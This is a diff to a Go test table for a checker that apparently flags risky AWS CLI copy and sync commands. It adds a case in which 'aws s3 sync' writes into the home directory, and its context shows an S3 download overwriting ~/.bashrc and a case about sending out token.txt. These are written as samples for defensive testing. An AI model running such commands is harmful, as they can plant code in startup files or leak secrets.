@@ -215,5 +215,7 @@ func TestS3CopyLocalPath(t *testing.T) {
 			want: "sends secret data (the file token.txt", benign: "aws s3 cp s3://releases/app.tgz ./app.tgz"},
 		{name: "a download over a startup file", hostile: "aws s3 cp s3://bucket/x ~/.bashrc", want: "writes outside the working directory: ~/.bashrc",
 			benign: "aws s3 cp s3://a/x s3://b/x"},
+		{name: "a sync into the home directory", hostile: "aws s3 sync s3://bucket/ ~/", want: "writes outside the working directory: ~/",
+			benign: "aws s3 sync s3://bucket/ ./site"},
 	})
 }
